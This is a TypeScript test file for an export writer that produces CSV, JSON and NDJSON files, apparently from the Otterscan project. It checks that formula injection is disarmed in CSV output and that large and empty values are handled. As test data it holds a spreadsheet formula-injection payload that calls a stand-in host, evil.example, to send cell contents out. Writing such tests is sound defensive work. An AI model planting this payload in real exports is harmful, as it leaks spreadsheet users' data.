import { parseCsv } from '@otterscan/ethereum/csv'
import { describe, expect, test } from 'vitest'
import { createExportWriter, type ExportFormat, type FileColumn } from './exportWriter.ts'

interface Holding {
  readonly token: string
  readonly amount: bigint | undefined
}

const COLUMNS: readonly FileColumn<Holding>[] = [
  { file: { token: ({ token }) => token } },
  {},
  { file: { amount: ({ amount }) => amount?.toString() } },
]

const HOSTILE = '=HYPERLINK("http://evil.example?x="&A1,"Claim"),\r\n@SUM(1)'
const BIG = 2n ** 256n - 1n
const PAGES: readonly (readonly Holding[])[] = [
  [{ token: HOSTILE, amount: BIG }],
  [],
  [
    { token: '+1', amount: undefined },
    { token: '', amount: 0n },
  ],
]

function write(format: ExportFormat, pages = PAGES): string {
  const writer = createExportWriter(format, COLUMNS)
  return writer.start() + pages.map((rows) => writer.write(rows)).join('') + writer.end()
}

describe('createExportWriter', () => {
  test('behavior: CSV keeps a hostile name intact and disarms it', () => {
    const text = write('csv')
    // For a spreadsheet: no cell starts like a formula.
    const cells = parseCsv(text, { guardsFormulas: false })
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(cells[1]).toEqual([`'${HOSTILE}`, BIG.toString()])
    expect(parseCsv(text)).toEqual([
      ['token', 'amount'],
      [HOSTILE, BIG.toString()],
      ['+1', ''],
      ['', '0'],
    ])
  })

  test('behavior: JSON and NDJSON have the same content, without undefined', () => {
    const expected = [
      { token: HOSTILE, amount: BIG.toString() },
      { token: '+1', amount: null },
      { token: '', amount: '0' },
    ]
    expect(JSON.parse(write('json'))).toEqual(expected)
    const lines = write('ndjson').trimEnd().split('\n')
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(expected)
    expect(write('csv') + write('json') + write('ndjson')).not.toContain('undefined')
  })

  test('behavior: no rows still give a valid file', () => {
    expect(JSON.parse(write('json', []))).toEqual([])
    expect(JSON.parse(write('json', [[], PAGES[0] ?? []]))).toHaveLength(1)
    expect(write('ndjson', [])).toBe('')
    expect(parseCsv(write('csv', []))).toEqual([['token', 'amount']])
  })
})
